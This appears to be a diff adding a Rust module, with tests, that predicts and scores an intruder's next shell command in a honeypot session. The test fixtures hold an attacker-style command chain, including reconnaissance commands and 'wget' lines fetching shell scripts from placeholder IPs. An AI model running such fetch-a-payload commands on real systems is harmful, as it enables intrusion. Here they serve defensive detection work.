@@ -1,0 +1,263 @@
+//! The session's next-command prediction (Layer 1, [`crate::models::markov`]): the model set
+//! taken when the session started, the session's normalized commands so far, and the guesses
+//! standing for the next command. Each command typed scores the standing guesses (first guess
+//! right, one of the three right, or a miss) as a `mirage.prediction` event and in the
+//! node's metrics, then joins the context and the model guesses the command after it.
+//!
+//! Without a next-command model nothing is kept and nothing is emitted.
+
+use std::sync::Arc;
+
+use crate::events::{EventKind, PredictedCommand};
+use crate::metrics::Metrics;
+use crate::models::Models;
+use crate::models::markov::Prediction;
+use crate::models::normalize::{Normalized, normalize_line};
+
+/// Guesses made for each next command (top-3 accuracy needs three).
+pub const TOP_K: usize = 3;
+/// Most commands scored in one session; later commands are neither scored nor kept, so a
+/// flood of `;` cannot flood the event log.
+pub const MAX_COMMANDS: usize = 10_000;
+/// Most recent commands kept as context. The model never looks further back than its order,
+/// so keeping at least that many gives the same guesses as keeping them all.
+pub const CONTEXT: usize = 64;
+/// Longest normalized command kept or reported, in bytes; longer ones are cut at a character
+/// boundary (no trained command is that long, so the cut never turns a miss into a hit).
+pub const MAX_TOKEN_BYTES: usize = 1024;
+
+/// One session's context and standing guesses.
+#[derive(Debug, Clone)]
+pub(super) struct Predictor {
+    /// The model set the session started with (a reload does not change it).
+    models: Arc<Models>,
+    /// The session's last commands, normalized, oldest first.
+    context: Vec<Normalized>,
+    /// The guesses for the next command, once made.
+    standing: Option<Vec<Prediction>>,
+    /// Commands scored so far.
+    scored: usize,
+}
+
+impl Predictor {
+    /// A session that has typed nothing yet, predicting with `models`.
+    pub(super) fn new(models: Arc<Models>) -> Predictor {
+        Predictor {
+            models,
+            context: Vec::new(),
+            standing: None,
+            scored: 0,
+        }
+    }
+
+    /// Takes one input line: for each command in it, the `mirage.prediction` event scoring the
+    /// guesses made before it (also counted in `metrics`). Empty when no next-command model is
+    /// loaded, the line holds no command, or the session is past [`MAX_COMMANDS`].
+    pub(super) fn observe(&mut self, line: &str, metrics: &Metrics) -> Vec<EventKind> {
+        let models = Arc::clone(&self.models);
+        let Some(markov) = models.markov.as_ref() else {
+            return Vec::new();
+        };
+        let keep = CONTEXT.max(markov.order);
+        let mut events = Vec::new();
+        for mut command in normalize_line(line) {
+            if command.token.is_empty() || self.scored >= MAX_COMMANDS {
+                continue;
+            }
+            truncate(&mut command.token, MAX_TOKEN_BYTES);
+            let guesses = self
+                .standing
+                .take()
+                .unwrap_or_else(|| markov.predict(&self.context, TOP_K));
+            let hit_top1 = guesses.first().is_some_and(|g| g.token == command.token);
+            let hit_top3 = guesses.iter().any(|g| g.token == command.token);
+            metrics.record_prediction(hit_top1, hit_top3);
+            self.scored += 1;
+            events.push(EventKind::Prediction {
+                predicted: guesses
+                    .into_iter()
+                    .map(|g| PredictedCommand {
+                        command: g.token,
+                        probability: (g.probability * 10_000.0).round() / 10_000.0,
+                    })
+                    .collect(),
+                actual: command.token.clone(),
+                hit_top1,
+                hit_top3,
+                model: models.version().to_owned(),
+            });
+            self.context.push(command);
+            // Trimmed in batches, so a long session moves the window once per `keep` commands.
+            if self.context.len() >= 2 * keep {
+                self.context.drain(..self.context.len() - keep);
+            }
+            self.standing = Some(markov.predict(&self.context, TOP_K));
+        }
+        events
+    }
+}
+
+/// Cuts `text` to at most `max` bytes, at a character boundary.
+fn truncate(text: &mut String, max: usize) {
+    if text.len() > max {
+        let mut end = max;
+        while !text.is_char_boundary(end) {
+            end -= 1;
+        }
+        text.truncate(end);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::models::markov::Markov;
+
+    const CHAIN: [&str; 5] = [
+        "uname -a",
+        "cat /proc/cpuinfo",
+        "free -m",
+        "cd /tmp",
+        "wget http://198.51.100.9/x.sh",
+    ];
+
+    fn models() -> Arc<Models> {
+        let chain: Vec<Normalized> = CHAIN.iter().flat_map(|l| normalize_line(l)).collect();
+        let mut models = Models {
+            markov: Some(Markov::trained(3, [chain.as_slice(), chain.as_slice()])),
+            ..Models::default()
+        };
+        models.manifest.version = "0123456789ab".into();
+        Arc::new(models)
+    }
+
+    /// (actual, hit_top1, hit_top3, first guess) of each event.
+    fn scored(events: &[EventKind]) -> Vec<(String, bool, bool, Option<String>)> {
+        events
+            .iter()
+            .map(|e| match e {
+                EventKind::Prediction {
+                    predicted,
+                    actual,
+                    hit_top1,
+                    hit_top3,
+                    model,
+                } => {
+                    assert_eq!(model, "0123456789ab");
+                    assert!(predicted.len() <= TOP_K);
+                    (
+                        actual.clone(),
+                        *hit_top1,
+                        *hit_top3,
+                        predicted.first().map(|p| p.command.clone()),
+                    )
+                }
+                other => panic!("not a prediction: {other:?}"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_known_chain_is_hit_and_a_novel_command_is_a_miss() {
+        let metrics = Metrics::new();
+        let mut p = Predictor::new(models());
+        let first = scored(&p.observe("uname -a; cat /proc/cpuinfo", &metrics));
+        assert_eq!(
+            first,
+            [
+                ("uname -a".into(), true, true, Some("uname -a".into())),
+                (
+                    "cat /proc/cpuinfo".into(),
+                    true,
+                    true,
+                    Some("cat /proc/cpuinfo".into())
+                ),
+            ]
+        );
+        assert!(p.observe("   ", &metrics).is_empty());
+        assert!(scored(&p.observe("free -m", &metrics))[0].1);
+        assert!(scored(&p.observe("cd /tmp", &metrics))[0].1);
+        // Another URL, the same normalized command.
+        let wget = scored(&p.observe("wget https://203.0.113.5/bins.sh", &metrics));
+        assert_eq!(wget[0].0, "wget <URL>");
+        assert!(wget[0].1);
+        let novel = scored(&p.observe("nproc --all", &metrics));
+        assert_eq!(novel[0].0, "nproc --all");
+        assert!(!novel[0].1 && !novel[0].2, "{novel:?}");
+        let text = metrics.render();
+        assert!(
+            text.contains("mirage_predictions_total{result=\"top1\"} 5"),
+            "{text}"
+        );
+        assert!(
+            text.contains("mirage_predictions_total{result=\"miss\"} 1"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn probabilities_are_rounded_and_sum_to_at_most_one() {
+        let metrics = Metrics::new();
+        let mut p = Predictor::new(models());
+        p.observe("uname -a", &metrics);
+        let events = p.observe("ls -la", &metrics);
+        let EventKind::Prediction { predicted, .. } = &events[0] else {
+            panic!("{events:?}");
+        };
+        let sum: f64 = predicted.iter().map(|g| g.probability).sum();
+        assert!(sum <= 1.0 + 1e-3, "{predicted:?}");
+        for g in predicted {
+            assert_eq!(g.probability, (g.probability * 1e4).round() / 1e4);
+        }
+    }
+
+    #[test]
+    fn without_a_model_nothing_is_kept_or_emitted() {
+        let metrics = Metrics::new();
+        let mut p = Predictor::new(Arc::new(Models::default()));
+        assert!(p.observe("uname -a; w", &metrics).is_empty());
+        assert!(p.context.is_empty());
+        assert!(
+            metrics
+                .render()
+                .contains("mirage_predictions_total{result=\"miss\"} 0")
+        );
+    }
+
+    #[test]
+    fn context_and_scoring_are_bounded() {
+        let metrics = Metrics::new();
+        let mut p = Predictor::new(models());
+        let line = vec!["free -m"; 500].join(";");
+        let mut events = 0;
+        for _ in 0..(MAX_COMMANDS / 500 + 2) {
+            events += p.observe(&line, &metrics).len();
+            assert!(p.context.len() < 2 * CONTEXT);
+        }
+        assert_eq!(events, MAX_COMMANDS);
+        assert!(p.observe("uname -a", &metrics).is_empty());
+        let mut p = Predictor::new(models());
+        let long = format!("echo {}", "é".repeat(MAX_TOKEN_BYTES));
+        let events = scored(&p.observe(&long, &metrics));
+        assert!(events[0].0.len() <= MAX_TOKEN_BYTES);
+        assert!(events[0].0.starts_with("echo é"));
+    }
+
+    #[test]
+    fn hostile_lines_do_not_panic() {
+        let metrics = Metrics::new();
+        let mut p = Predictor::new(models());
+        for line in [
+            ";;;",
+            "'",
+            "\"\\",
+            "\u{0}é'ü\"",
+            "a | | b",
+            "$(",
+            "`",
+            "&&&",
+        ] {
+            p.observe(line, &metrics);
+        }
+    }
+}
